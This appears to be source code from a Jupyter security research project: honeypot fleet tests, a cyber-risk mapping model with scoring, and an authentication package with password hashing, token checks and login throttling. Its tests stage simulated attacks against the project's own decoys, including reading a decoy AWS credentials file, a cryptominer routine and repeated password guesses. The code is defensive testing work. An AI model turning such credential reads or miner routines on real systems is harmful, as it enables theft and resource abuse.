		t.Fatalf("fingerprints = %+v", fps)
	}
	if fps[0].Classes[rules.ClassRansomware] == 0 {
		t.Fatalf("ransomware not classified: %+v", fps[0].Classes)
	}
	if fps[0].Executions == 0 {
		t.Fatal("executions not counted")
	}
}

// TestAsyncObserverRecordsAndDrains verifies a honeypot whose observer
// runs behind a bounded stage still fingerprints the attacker once
// drained, and loses nothing under the Block policy.
func TestAsyncObserverRecordsAndDrains(t *testing.T) {
	hp, err := New(Config{ID: "hp-async", AsyncQueue: 128})
	if err != nil {
		t.Fatal(err)
	}
	defer hp.Close()
	c := client.New(hp.Addr, "")
	_, _ = c.Status()
	if _, err := c.ReadFile("secrets/.aws_credentials"); err != nil {
		t.Fatal(err)
	}
	hp.Drain()
	if hp.Dropped() != 0 {
		t.Fatalf("observer dropped %d events under Block policy", hp.Dropped())
	}
	if len(hp.Interactions()) == 0 {
		t.Fatal("async observer recorded no interactions")
	}
	fps := hp.Fingerprints()
	if len(fps) != 1 || fps[0].Requests < 2 {
		t.Fatalf("fingerprints = %+v", fps)
	}
}

// TestAsyncFleetCollect runs an async fleet end to end: attack one
// decoy, Collect (which drains), expect intel.
func TestAsyncFleetCollect(t *testing.T) {
	fl, err := NewFleetAsync(2, nil, 256, trace.Block)
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()
	c := client.New(fl.Honeypots[0].Addr, "")
	if _, err := attacks.Cryptominer(c, attacks.MinerOptions{
		Rounds: 1, BurnMillis: 50, Blatant: true, Username: "attacker",
	}); err != nil {
		t.Fatal(err)
	}
	indicators, sigs := fl.Collect(time.Now())
	if indicators == 0 {
		t.Fatal("async fleet collected no indicators")
	}
	if sigs == 0 {
		t.Fatal("async fleet extracted no signatures")
	}
}
