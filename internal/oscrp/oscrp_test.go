package oscrp

import (
	"strings"
	"testing"
)

func TestDefaultProfileValid(t *testing.T) {
	if err := Default().Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestFig3Edges(t *testing.T) {
	p := Default()
	// The figure's avenue -> concern edges, read off Fig. 3.
	edges := map[Avenue][]Concern{
		AvenueRansomware:   {ConcernInaccessibleData},
		AvenueCryptomining: {ConcernComputingDisruption},
		AvenueExfiltration: {ConcernExposedData},
	}
	for av, wantConcerns := range edges {
		m := p.ByAvenue(av)
		if m == nil {
			t.Fatalf("avenue %s missing", av)
		}
		for _, c := range wantConcerns {
			found := false
			for _, got := range m.Concerns {
				if got == c {
					found = true
				}
			}
			if !found {
				t.Errorf("avenue %s missing concern %s", av, c)
			}
		}
	}
}

func TestAllSevenAvenuesPresent(t *testing.T) {
	p := Default()
	for _, av := range []Avenue{
		AvenueRansomware, AvenueCryptomining, AvenueExfiltration,
		AvenueAccountTakeover, AvenueZeroDay, AvenueMisconfig, AvenueDoS,
	} {
		if p.ByAvenue(av) == nil {
			t.Errorf("avenue %s missing from profile", av)
		}
	}
}

func TestConsequencesCoverFig3(t *testing.T) {
	p := Default()
	seen := map[Consequence]bool{}
	for _, m := range p.Mappings {
		for _, c := range m.Consequences {
			seen[c] = true
		}
	}
	for _, c := range []Consequence{
		ConsIrreproducibleResults, ConsMisguidedScience,
		ConsLegalActions, ConsFundingLoss, ConsReducedReputation,
	} {
		if !seen[c] {
			t.Errorf("consequence %s unreachable", c)
		}
	}
}

func TestAvenueForClass(t *testing.T) {
	if av, ok := AvenueForClass("ransomware"); !ok || av != AvenueRansomware {
		t.Fatalf("AvenueForClass = %v %v", av, ok)
	}
	if _, ok := AvenueForClass("martian"); ok {
		t.Fatal("unknown class resolved")
	}
}

func TestRiskScoreMonotone(t *testing.T) {
	p := Default()
	low := p.RiskScore(AvenueRansomware, 1, 1)
	mid := p.RiskScore(AvenueRansomware, 10, 3)
	high := p.RiskScore(AvenueRansomware, 50, 4)
	if !(low < mid && mid < high) {
		t.Fatalf("scores not monotone: %f %f %f", low, mid, high)
	}
	if high > 100 {
		t.Fatalf("score above 100: %f", high)
	}
	if p.RiskScore(AvenueRansomware, 0, 4) != 0 {
		t.Fatal("score without alerts")
	}
}

func TestRansomwareOutranksDoS(t *testing.T) {
	p := Default()
	if p.RiskScore(AvenueRansomware, 10, 3) <= p.RiskScore(AvenueDoS, 10, 3) {
		t.Fatal("ransomware should outrank DoS at equal evidence")
	}
}

func TestTableAndRender(t *testing.T) {
	p := Default()
	rows := p.Table()
	if len(rows) != 7 {
		t.Fatalf("rows = %d", len(rows))
	}
	for i := 1; i < len(rows); i++ {
		if rows[i].Avenue < rows[i-1].Avenue {
			t.Fatal("rows not sorted")
		}
	}
	text := p.Render()
	for _, want := range []string{"ransomware", "inaccessible_or_incorrect_data", "funding_loss", "AVENUE"} {
		if !strings.Contains(text, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestValidateCatchesDuplicates(t *testing.T) {
	p := Default()
	p.Mappings = append(p.Mappings, p.Mappings[0])
	if err := p.Validate(); err == nil {
		t.Fatal("duplicate avenue accepted")
	}
}

func TestValidateCatchesEmptyMapping(t *testing.T) {
	p := &Profile{Mappings: []Mapping{{Avenue: AvenueDoS, Weight: 0.5}}}
	if err := p.Validate(); err == nil {
		t.Fatal("empty mapping accepted")
	}
	if err := (&Profile{}).Validate(); err == nil {
		t.Fatal("empty profile accepted")
	}
}

func TestValidateWeightBounds(t *testing.T) {
	p := &Profile{Mappings: []Mapping{{
		Avenue: AvenueDoS, Weight: 1.5,
		Concerns:     []Concern{ConcernComputingDisruption},
		Consequences: []Consequence{ConsFundingLoss},
		Assets:       []Asset{AssetHPCResources},
	}}}
	if err := p.Validate(); err == nil {
		t.Fatal("weight > 1 accepted")
	}
}
