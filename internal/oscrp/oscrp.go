// Package oscrp models TrustedCI's Open Science Cyber Risk Profile as
// applied to Jupyter in the paper's Fig. 3: avenues of attack map to
// concerns about science assets, which map to consequences for
// facilities and people. The package regenerates the figure's mapping
// table and scores incident risk for the core engine.
package oscrp

import (
	"fmt"
	"sort"
	"strings"
)

// Avenue is an avenue of attack (top row of Fig. 3).
type Avenue string

// Avenues of attack from Fig. 3.
const (
	AvenueRansomware      Avenue = "ransomware"
	AvenueCryptomining    Avenue = "cryptomining"
	AvenueExfiltration    Avenue = "data_exfiltration"
	AvenueAccountTakeover Avenue = "account_takeover"
	AvenueZeroDay         Avenue = "zero_day"
	AvenueMisconfig       Avenue = "security_misconfiguration"
	AvenueDoS             Avenue = "denial_of_service"
)

// Concern is a concern about science assets (middle row of Fig. 3).
type Concern string

// Concerns from Fig. 3.
const (
	ConcernInaccessibleData    Concern = "inaccessible_or_incorrect_data"
	ConcernExposedData         Concern = "exposed_data"
	ConcernComputingDisruption Concern = "disruption_of_computing"
)

// Consequence is an outcome for science, facilities, and people
// (bottom row of Fig. 3).
type Consequence string

// Consequences from Fig. 3.
const (
	ConsIrreproducibleResults Consequence = "irreproducible_results"
	ConsMisguidedScience      Consequence = "misguided_scientific_interpretation"
	ConsLegalActions          Consequence = "legal_actions"
	ConsFundingLoss           Consequence = "funding_loss"
	ConsReducedReputation     Consequence = "reduced_reputation"
)

// Asset is a science asset class at risk.
type Asset string

// Assets the paper's introduction enumerates.
const (
	AssetAIModels     Asset = "trained_ai_models"
	AssetTrainingData Asset = "training_data"
	AssetHPCResources Asset = "hpc_compute_resources"
	AssetCredentials  Asset = "credentials_and_tokens"
	AssetNotebooks    Asset = "research_notebooks"
)

// Mapping ties one avenue to its concerns, consequences, and the
// assets at stake, with a base severity weight used in risk scoring.
type Mapping struct {
	Avenue       Avenue
	Concerns     []Concern
	Consequences []Consequence
	Assets       []Asset
	// Weight is the base risk weight in [0,1] assigned from the
	// paper's qualitative ordering (disruption + data loss highest).
	Weight float64
}

// Profile is the complete Fig. 3 model. A Profile is immutable after
// construction — every method (RiskScore, ByAvenue, Table, Render,
// Validate) only reads Mappings and keeps no lazy caches — so one
// Profile is safe for concurrent use from every shard of the core
// engine without locking. Callers must not mutate Mappings once the
// Profile is shared.
type Profile struct {
	Mappings []Mapping
}

// Default returns the OSCRP mapping exactly as drawn in Fig. 3 of the
// paper, with avenue->concern edges read off the figure.
func Default() *Profile {
	return &Profile{Mappings: []Mapping{
		{
			Avenue:       AvenueRansomware,
			Concerns:     []Concern{ConcernInaccessibleData},
			Consequences: []Consequence{ConsIrreproducibleResults, ConsLegalActions, ConsFundingLoss},
			Assets:       []Asset{AssetNotebooks, AssetTrainingData, AssetAIModels},
			Weight:       0.95,
		},
		{
			Avenue:       AvenueCryptomining,
			Concerns:     []Concern{ConcernComputingDisruption},
			Consequences: []Consequence{ConsFundingLoss, ConsReducedReputation},
			Assets:       []Asset{AssetHPCResources},
			Weight:       0.70,
		},
		{
			Avenue:       AvenueExfiltration,
			Concerns:     []Concern{ConcernExposedData},
			Consequences: []Consequence{ConsLegalActions, ConsReducedReputation, ConsMisguidedScience},
			Assets:       []Asset{AssetTrainingData, AssetAIModels, AssetCredentials},
			Weight:       0.90,
		},
		{
			Avenue:       AvenueAccountTakeover,
			Concerns:     []Concern{ConcernExposedData, ConcernComputingDisruption},
			Consequences: []Consequence{ConsLegalActions, ConsReducedReputation},
			Assets:       []Asset{AssetCredentials, AssetHPCResources},
			Weight:       0.85,
		},
		{
			Avenue:       AvenueZeroDay,
			Concerns:     []Concern{ConcernInaccessibleData, ConcernExposedData, ConcernComputingDisruption},
			Consequences: []Consequence{ConsIrreproducibleResults, ConsMisguidedScience, ConsLegalActions, ConsFundingLoss, ConsReducedReputation},
			Assets:       []Asset{AssetNotebooks, AssetTrainingData, AssetAIModels, AssetHPCResources, AssetCredentials},
			Weight:       0.80,
		},
		{
			Avenue:       AvenueMisconfig,
			Concerns:     []Concern{ConcernExposedData, ConcernComputingDisruption},
			Consequences: []Consequence{ConsReducedReputation, ConsLegalActions},
			Assets:       []Asset{AssetNotebooks, AssetCredentials},
			Weight:       0.60,
		},
		{
			Avenue:       AvenueDoS,
			Concerns:     []Concern{ConcernComputingDisruption},
			Consequences: []Consequence{ConsIrreproducibleResults, ConsReducedReputation},
			Assets:       []Asset{AssetHPCResources},
			Weight:       0.55,
		},
	}}
}

// ByAvenue returns the mapping for an avenue, or nil.
func (p *Profile) ByAvenue(a Avenue) *Mapping {
	for i := range p.Mappings {
		if p.Mappings[i].Avenue == a {
			return &p.Mappings[i]
		}
	}
	return nil
}

// AvenueForClass resolves a rules-package taxonomy class string to an
// OSCRP avenue (they share the same identifiers).
func AvenueForClass(class string) (Avenue, bool) {
	switch Avenue(class) {
	case AvenueRansomware, AvenueCryptomining, AvenueExfiltration,
		AvenueAccountTakeover, AvenueZeroDay, AvenueMisconfig, AvenueDoS:
		return Avenue(class), true
	}
	return "", false
}

// RiskScore combines an avenue's base weight with observed alert
// volume and top severity rank (0..4) into a [0,100] score.
func (p *Profile) RiskScore(a Avenue, alertCount, topSeverityRank int) float64 {
	m := p.ByAvenue(a)
	if m == nil || alertCount == 0 {
		return 0
	}
	volume := 1.0
	switch {
	case alertCount >= 20:
		volume = 1.0
	case alertCount >= 5:
		volume = 0.8
	default:
		volume = 0.6
	}
	sev := 0.4 + 0.15*float64(topSeverityRank)
	score := 100 * m.Weight * volume * sev
	if score > 100 {
		score = 100
	}
	return score
}

// TableRow is one row of the regenerated Table 1 / Fig. 3 mapping.
type TableRow struct {
	Avenue       string
	Concerns     string
	Consequences string
	Assets       string
}

// Table renders the avenue->concern->consequence mapping as rows,
// sorted by avenue — the reproduction of the paper's Table 1.
func (p *Profile) Table() []TableRow {
	rows := make([]TableRow, 0, len(p.Mappings))
	for _, m := range p.Mappings {
		rows = append(rows, TableRow{
			Avenue:       string(m.Avenue),
			Concerns:     joinConcerns(m.Concerns),
			Consequences: joinConsequences(m.Consequences),
			Assets:       joinAssets(m.Assets),
		})
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Avenue < rows[j].Avenue })
	return rows
}

// Render prints the table in aligned text form.
func (p *Profile) Render() string {
	var b strings.Builder
	b.WriteString("OSCRP mapping (Fig. 3 / Table 1)\n")
	b.WriteString(fmt.Sprintf("%-28s | %-50s | %s\n", "AVENUE OF ATTACK", "CONCERNS", "CONSEQUENCES"))
	b.WriteString(strings.Repeat("-", 140) + "\n")
	for _, r := range p.Table() {
		b.WriteString(fmt.Sprintf("%-28s | %-50s | %s\n", r.Avenue, r.Concerns, r.Consequences))
	}
	return b.String()
}

func joinConcerns(cs []Concern) string {
	parts := make([]string, len(cs))
	for i, c := range cs {
		parts[i] = string(c)
	}
	return strings.Join(parts, ", ")
}

func joinConsequences(cs []Consequence) string {
	parts := make([]string, len(cs))
	for i, c := range cs {
		parts[i] = string(c)
	}
	return strings.Join(parts, ", ")
}

func joinAssets(as []Asset) string {
	parts := make([]string, len(as))
	for i, a := range as {
		parts[i] = string(a)
	}
	return strings.Join(parts, ", ")
}

// Validate checks the profile for structural completeness: every
// avenue has at least one concern, consequence, and asset, and weights
// are in (0,1].
func (p *Profile) Validate() error {
	if len(p.Mappings) == 0 {
		return fmt.Errorf("oscrp: empty profile")
	}
	seen := map[Avenue]bool{}
	for _, m := range p.Mappings {
		if seen[m.Avenue] {
			return fmt.Errorf("oscrp: duplicate avenue %s", m.Avenue)
		}
		seen[m.Avenue] = true
		if len(m.Concerns) == 0 || len(m.Consequences) == 0 || len(m.Assets) == 0 {
			return fmt.Errorf("oscrp: avenue %s has an empty mapping", m.Avenue)
		}
		if m.Weight <= 0 || m.Weight > 1 {
			return fmt.Errorf("oscrp: avenue %s weight %.2f out of (0,1]", m.Avenue, m.Weight)
		}
	}
	return nil
}
