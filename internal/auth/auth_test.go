package auth

import (
	"errors"
	"fmt"
	"testing"
	"time"

	"repro/internal/trace"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func newAuth(cfg Config) (*Authenticator, *trace.FakeClock, *trace.Ring) {
	clock := trace.NewFakeClock(t0)
	ring := trace.NewRing(1000)
	bus := trace.NewBus(clock)
	bus.Subscribe(ring)
	return New(cfg, clock, bus), clock, ring
}

func TestPasswordHashRoundTrip(t *testing.T) {
	ph := HashPassword("correct horse battery staple")
	if !ph.Verify("correct horse battery staple") {
		t.Fatal("correct password rejected")
	}
	if ph.Verify("wrong") {
		t.Fatal("wrong password accepted")
	}
}

func TestPasswordHashSaltsDiffer(t *testing.T) {
	a, b := HashPassword("same"), HashPassword("same")
	if a.Encode() == b.Encode() {
		t.Fatal("two hashes of the same password identical (salt reuse)")
	}
}

func TestHashEncodeDecode(t *testing.T) {
	ph := HashPassword("secret")
	back, err := DecodeHash(ph.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !back.Verify("secret") {
		t.Fatal("decoded hash does not verify")
	}
}

func TestDecodeHashMalformed(t *testing.T) {
	for _, s := range []string{"", "nocolon", "zz:gg", ":abc"} {
		if _, err := DecodeHash(s); err == nil {
			t.Errorf("DecodeHash(%q) accepted", s)
		}
	}
}

func TestTokenAuth(t *testing.T) {
	a, _, _ := newAuth(DefaultConfig("tok-123"))
	if d, err := a.CheckToken("1.2.3.4", "tok-123", false); err != nil || d != DecisionAllow {
		t.Fatalf("valid token: %v %v", d, err)
	}
	if _, err := a.CheckToken("1.2.3.4", "wrong", false); !errors.Is(err, ErrBadCredentials) {
		t.Fatalf("wrong token: %v", err)
	}
}

func TestTokenInURLPolicy(t *testing.T) {
	cfg := DefaultConfig("tok")
	a, _, _ := newAuth(cfg)
	if _, err := a.CheckToken("ip", "tok", true); err == nil {
		t.Fatal("URL token accepted by hardened config")
	}
	cfg.AllowTokenInURL = true
	a2, _, _ := newAuth(cfg)
	if d, err := a2.CheckToken("ip", "tok", true); err != nil || d != DecisionAllow {
		t.Fatalf("URL token rejected by permissive config: %v", err)
	}
}

func TestLoginSessionLifecycle(t *testing.T) {
	cfg := DefaultConfig("tok")
	cfg.Passwords = map[string]PasswordHash{"alice": HashPassword("pw")}
	cfg.SessionTTL = time.Hour
	a, clock, _ := newAuth(cfg)
	sess, d, err := a.Login("ip", "alice", "pw")
	if err != nil || d != DecisionAllow {
		t.Fatalf("login: %v %v", d, err)
	}
	if got, err := a.CheckSession(sess.ID); err != nil || got.User != "alice" {
		t.Fatalf("session: %+v %v", got, err)
	}
	if a.ActiveSessions() != 1 {
		t.Fatalf("active = %d", a.ActiveSessions())
	}
	clock.Advance(2 * time.Hour)
	if _, err := a.CheckSession(sess.ID); !errors.Is(err, ErrNoSession) {
		t.Fatalf("expired session: %v", err)
	}
}

func TestRevoke(t *testing.T) {
	cfg := DefaultConfig("tok")
	cfg.Passwords = map[string]PasswordHash{"alice": HashPassword("pw")}
	a, _, _ := newAuth(cfg)
	sess, _, _ := a.Login("ip", "alice", "pw")
	a.Revoke(sess.ID)
	if _, err := a.CheckSession(sess.ID); err == nil {
		t.Fatal("revoked session valid")
	}
}

func TestThrottling(t *testing.T) {
	cfg := DefaultConfig("tok")
	cfg.MaxFailures = 3
	cfg.FailureWindow = time.Minute
	cfg.Passwords = map[string]PasswordHash{"alice": HashPassword("pw")}
	a, clock, _ := newAuth(cfg)

	for i := 0; i < 3; i++ {
		if _, d, _ := a.Login("6.6.6.6", "alice", fmt.Sprintf("guess%d", i)); d != DecisionDeny {
			t.Fatalf("attempt %d decision = %v", i, d)
		}
		clock.Advance(time.Second)
	}
	// Fourth attempt — even with the right password — is throttled.
	if _, d, err := a.Login("6.6.6.6", "alice", "pw"); d != DecisionThrottled || !errors.Is(err, ErrThrottled) {
		t.Fatalf("throttle: %v %v", d, err)
	}
	// A different source is unaffected.
	if _, d, _ := a.Login("7.7.7.7", "alice", "pw"); d != DecisionAllow {
		t.Fatalf("other source: %v", d)
	}
	// After the window passes, the original source recovers.
	clock.Advance(2 * time.Minute)
	if _, d, _ := a.Login("6.6.6.6", "alice", "pw"); d != DecisionAllow {
		t.Fatalf("post-window: %v", d)
	}
}

func TestFailureCountPrunes(t *testing.T) {
	cfg := DefaultConfig("tok")
	cfg.MaxFailures = 10
	cfg.FailureWindow = time.Minute
	a, clock, _ := newAuth(cfg)
	_, _ = a.CheckToken("ip", "bad", false)
	_, _ = a.CheckToken("ip", "bad", false)
	if a.FailureCount("ip") != 2 {
		t.Fatalf("count = %d", a.FailureCount("ip"))
	}
	clock.Advance(2 * time.Minute)
	if a.FailureCount("ip") != 0 {
		t.Fatalf("count after window = %d", a.FailureCount("ip"))
	}
}

func TestDisabledAuthIsOpen(t *testing.T) {
	a, _, ring := newAuth(Config{DisableAuth: true})
	d, err := a.CheckToken("anywhere", "", false)
	if err != nil || d != DecisionNoAuthOpen {
		t.Fatalf("open: %v %v", d, err)
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindAuth })
	if len(evs) != 1 || evs[0].Op != string(DecisionNoAuthOpen) {
		t.Fatalf("events = %+v", evs)
	}
}

func TestAuthEventsEmitted(t *testing.T) {
	cfg := DefaultConfig("tok")
	cfg.Passwords = map[string]PasswordHash{"alice": HashPassword("pw")}
	a, _, ring := newAuth(cfg)
	_, _, _ = a.Login("9.9.9.9", "alice", "bad")
	_, _, _ = a.Login("9.9.9.9", "alice", "pw")
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindAuth })
	if len(evs) != 2 {
		t.Fatalf("events = %d", len(evs))
	}
	if evs[0].Success || !evs[1].Success {
		t.Fatalf("success flags = %v %v", evs[0].Success, evs[1].Success)
	}
	if evs[0].SrcIP != "9.9.9.9" {
		t.Fatalf("src = %s", evs[0].SrcIP)
	}
}

func TestGenerateToken(t *testing.T) {
	a, b := GenerateToken(), GenerateToken()
	if len(a) != 48 || a == b {
		t.Fatalf("tokens: %q %q", a, b)
	}
}

func TestUnknownUserDenied(t *testing.T) {
	cfg := DefaultConfig("tok")
	a, _, _ := newAuth(cfg)
	if _, d, _ := a.Login("ip", "nobody", "pw"); d != DecisionDeny {
		t.Fatalf("unknown user: %v", d)
	}
}

// TestDigestEqualLengthIndependent pins the timing-leak fix: token
// comparison must go through fixed-length digests, so unequal-length
// candidates take the exact same path as equal-length ones (hmac.Equal
// on two 32-byte digests) instead of hmac.Equal's length short-circuit
// on the raw bytes.
func TestDigestEqualLengthIndependent(t *testing.T) {
	cases := []struct {
		a, b string
		want bool
	}{
		{"secret-token", "secret-token", true},
		{"", "", true},
		{"secret-token", "secret-tokeX", false}, // same length, differs
		{"secret-token", "secret", false},       // prefix probe
		{"secret-token", "secret-token-and-more", false},
		{"", "x", false},
	}
	for _, c := range cases {
		if got := DigestEqual(c.a, c.b); got != c.want {
			t.Errorf("DigestEqual(%q, %q) = %v, want %v", c.a, c.b, got, c.want)
		}
	}
}

// TestCheckTokenLengthProbeDenied exercises the classic probe the
// timing leak enabled: candidates of every length other than the real
// token's must be denied through the digest path (DigestEqual), and a
// truncated prefix of the real token must not pass.
func TestCheckTokenLengthProbeDenied(t *testing.T) {
	const tok = "real-token-value"
	a, _, _ := newAuth(Config{Token: tok})
	for _, cand := range []string{"", "r", tok[:len(tok)-1], tok + "x", tok[:4]} {
		if d, err := a.CheckToken("1.2.3.4", cand, false); d != DecisionDeny || err == nil {
			t.Fatalf("candidate %q: decision %v err %v", cand, d, err)
		}
	}
	if d, err := a.CheckToken("1.2.3.4", tok, false); d != DecisionAllow || err != nil {
		t.Fatalf("real token: decision %v err %v", d, err)
	}
}

func TestKeyringMintVerify(t *testing.T) {
	k := NewKeyring()
	if err := k.AddTenant("alpha", []byte("s3cret")); err != nil {
		t.Fatal(err)
	}
	if err := k.AddTenant("beta", []byte("hunter2")); err != nil {
		t.Fatal(err)
	}
	tokA, ok := k.Mint("alpha")
	if !ok || len(tokA) != 64 {
		t.Fatalf("mint alpha: %q ok=%v", tokA, ok)
	}
	// Deterministic: both ends derive the same token from the secret.
	if tok2, _ := k.Mint("alpha"); tok2 != tokA {
		t.Fatal("mint is not deterministic")
	}
	if !k.Verify("alpha", tokA) {
		t.Fatal("valid token rejected")
	}
	// A token never authenticates a different tenant.
	if k.Verify("beta", tokA) {
		t.Fatal("cross-tenant token accepted")
	}
	if k.Verify("alpha", tokA[:63]) || k.Verify("alpha", tokA+"0") {
		t.Fatal("wrong-length token accepted")
	}
	if k.Verify("nosuch", tokA) {
		t.Fatal("unknown tenant verified")
	}
	// Rotating the secret rotates the token.
	if err := k.AddTenant("alpha", []byte("rotated")); err != nil {
		t.Fatal(err)
	}
	if k.Verify("alpha", tokA) {
		t.Fatal("stale token survived rotation")
	}
}

func TestKeyringRejectsBadNames(t *testing.T) {
	k := NewKeyring()
	for _, name := range []string{"", "a/b", "a:b", "a,b", "a b", "a\tb"} {
		if err := k.AddTenant(name, []byte("s")); err == nil {
			t.Errorf("tenant name %q accepted", name)
		}
	}
	if err := k.AddTenant("ok", nil); err == nil {
		t.Error("empty secret accepted")
	}
	if got := k.Tenants(); len(got) != 0 {
		t.Errorf("tenants = %v, want empty", got)
	}
	_ = k.AddTenant("b", []byte("x"))
	_ = k.AddTenant("a", []byte("y"))
	if got := k.Tenants(); len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Errorf("tenants = %v, want sorted [a b]", got)
	}
}
