package auth

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"sync"
)

// tenantTokenContext domain-separates ingest tokens from any other
// HMAC use of the same secret; the version tag lets a future scheme
// rotate without ambiguity.
const tenantTokenContext = "jupyterguard-ingest-v1:"

// Keyring holds per-tenant HMAC-SHA256 secrets for the ingest
// service. A tenant's bearer token is derived deterministically from
// its secret (Mint), so both sides of a connection can compute it
// without ever shipping the secret itself, and rotating the secret
// rotates every outstanding token at once.
//
// Verify never compares raw token bytes: candidates are reduced to
// fixed-length digests (DigestEqual), and unknown tenants still burn
// one digest comparison so a probe cannot distinguish "no such
// tenant" from "wrong token" by timing.
type Keyring struct {
	mu      sync.RWMutex
	secrets map[string][]byte
}

// NewKeyring returns an empty keyring.
func NewKeyring() *Keyring {
	return &Keyring{secrets: map[string][]byte{}}
}

// AddTenant registers (or rotates) a tenant secret. Tenant names
// become actor-key namespaces and CLI list entries, so the characters
// those layers use as separators are rejected.
func (k *Keyring) AddTenant(tenant string, secret []byte) error {
	if tenant == "" {
		return fmt.Errorf("auth: empty tenant name")
	}
	if strings.ContainsAny(tenant, "/:, \t\n") {
		return fmt.Errorf("auth: tenant name %q contains a reserved separator", tenant)
	}
	if len(secret) == 0 {
		return fmt.Errorf("auth: empty secret for tenant %q", tenant)
	}
	k.mu.Lock()
	defer k.mu.Unlock()
	k.secrets[tenant] = append([]byte(nil), secret...)
	return nil
}

// Tenants returns the registered tenant names, sorted.
func (k *Keyring) Tenants() []string {
	k.mu.RLock()
	defer k.mu.RUnlock()
	out := make([]string, 0, len(k.secrets))
	for t := range k.secrets {
		out = append(out, t)
	}
	sort.Strings(out)
	return out
}

// Mint derives the bearer token for a tenant:
// hex(HMAC-SHA256(secret, context||tenant)). It reports false for an
// unregistered tenant.
func (k *Keyring) Mint(tenant string) (string, bool) {
	k.mu.RLock()
	secret, ok := k.secrets[tenant]
	k.mu.RUnlock()
	if !ok {
		return "", false
	}
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(tenantTokenContext + tenant))
	return hex.EncodeToString(mac.Sum(nil)), true
}

// Verify reports whether token is the current token for tenant, in
// constant time over the digest comparison and without a timing
// oracle for tenant existence.
func (k *Keyring) Verify(tenant, token string) bool {
	expected, ok := k.Mint(tenant)
	if !ok {
		// Burn the same comparison an existing tenant would take. The
		// compared value can never equal a real token (tokens are
		// 64 hex chars of HMAC output; this digest input is marked).
		DigestEqual(token, tenantTokenContext+"unknown-tenant")
		return false
	}
	return DigestEqual(token, expected)
}
