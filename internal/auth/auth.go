// Package auth implements the Jupyter server's authentication surface:
// bearer tokens, salted iterated password hashes, cookie sessions, and
// per-source login throttling.
//
// The paper's account-takeover avenue attacks exactly this layer
// (password guessing against science gateways, token leakage through
// URLs). Every authentication decision is emitted as a trace event so
// the detection engine can observe brute-force campaigns, and the
// misconfiguration scanner inspects the same Config knobs.
package auth

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"sync"
	"time"

	"repro/internal/trace"
)

// Decision classifies an authentication attempt.
type Decision string

// Authentication decisions.
const (
	DecisionAllow      Decision = "allow"
	DecisionDeny       Decision = "deny"
	DecisionThrottled  Decision = "throttled"
	DecisionNoAuthOpen Decision = "open" // server runs with auth disabled
)

// Errors.
var (
	ErrBadCredentials = errors.New("auth: invalid credentials")
	ErrThrottled      = errors.New("auth: source throttled")
	ErrNoSession      = errors.New("auth: no such session")
)

// HashIterations is the iteration count for password hashing. Real
// deployments would use argon2/bcrypt; an iterated salted SHA-256
// keeps us in the stdlib while preserving the brute-force economics
// the account-takeover experiment measures.
const HashIterations = 4096

// PasswordHash is a salted iterated hash of a password.
type PasswordHash struct {
	Salt []byte
	Sum  []byte
}

// HashPassword derives a PasswordHash with a random salt.
func HashPassword(password string) PasswordHash {
	salt := make([]byte, 16)
	if _, err := rand.Read(salt); err != nil {
		// crypto/rand failure is unrecoverable for key material.
		panic("auth: crypto/rand: " + err.Error())
	}
	return hashWithSalt(password, salt)
}

func hashWithSalt(password string, salt []byte) PasswordHash {
	sum := append([]byte(nil), salt...)
	sum = append(sum, []byte(password)...)
	digest := sha256.Sum256(sum)
	for i := 1; i < HashIterations; i++ {
		digest = sha256.Sum256(digest[:])
	}
	return PasswordHash{Salt: append([]byte(nil), salt...), Sum: digest[:]}
}

// Verify reports whether password matches the hash, in constant time
// over the digest comparison.
func (ph PasswordHash) Verify(password string) bool {
	candidate := hashWithSalt(password, ph.Salt)
	return hmac.Equal(candidate.Sum, ph.Sum)
}

// Encode renders the hash as hex "salt:sum" for config files.
func (ph PasswordHash) Encode() string {
	return hex.EncodeToString(ph.Salt) + ":" + hex.EncodeToString(ph.Sum)
}

// DecodeHash parses the Encode format.
func DecodeHash(s string) (PasswordHash, error) {
	var saltHex, sumHex string
	for i := 0; i < len(s); i++ {
		if s[i] == ':' {
			saltHex, sumHex = s[:i], s[i+1:]
			break
		}
	}
	if saltHex == "" || sumHex == "" {
		return PasswordHash{}, errors.New("auth: malformed password hash")
	}
	salt, err := hex.DecodeString(saltHex)
	if err != nil {
		return PasswordHash{}, err
	}
	sum, err := hex.DecodeString(sumHex)
	if err != nil {
		return PasswordHash{}, err
	}
	return PasswordHash{Salt: salt, Sum: sum}, nil
}

// Config controls the authenticator. Zero value = auth disabled, the
// classic exposed-Jupyter misconfiguration.
type Config struct {
	Token           string                  // bearer token ("" disables token auth)
	Passwords       map[string]PasswordHash // username -> password hash
	AllowTokenInURL bool                    // accept ?token= query parameter
	DisableAuth     bool                    // run fully open
	MaxFailures     int                     // failures per window before throttling (0 = no throttle)
	FailureWindow   time.Duration           // throttle window
	SessionTTL      time.Duration           // cookie session lifetime
}

// DefaultConfig returns a hardened configuration with the given token.
func DefaultConfig(token string) Config {
	return Config{
		Token:         token,
		MaxFailures:   5,
		FailureWindow: time.Minute,
		SessionTTL:    8 * time.Hour,
	}
}

// Session is a logged-in cookie session.
type Session struct {
	ID      string
	User    string
	Created time.Time
	Expires time.Time
}

// Authenticator evaluates credentials and manages sessions.
type Authenticator struct {
	cfg   Config
	clock trace.Clock
	sink  trace.Sink

	mu       sync.Mutex
	sessions map[string]Session
	failures map[string][]time.Time // source -> failure timestamps
	counter  uint64
}

// New returns an Authenticator.
func New(cfg Config, clock trace.Clock, sink trace.Sink) *Authenticator {
	if clock == nil {
		clock = trace.RealClock{}
	}
	if sink == nil {
		sink = trace.Discard
	}
	if cfg.SessionTTL == 0 {
		cfg.SessionTTL = 8 * time.Hour
	}
	return &Authenticator{
		cfg: cfg, clock: clock, sink: sink,
		sessions: map[string]Session{},
		failures: map[string][]time.Time{},
	}
}

// Config returns the active configuration.
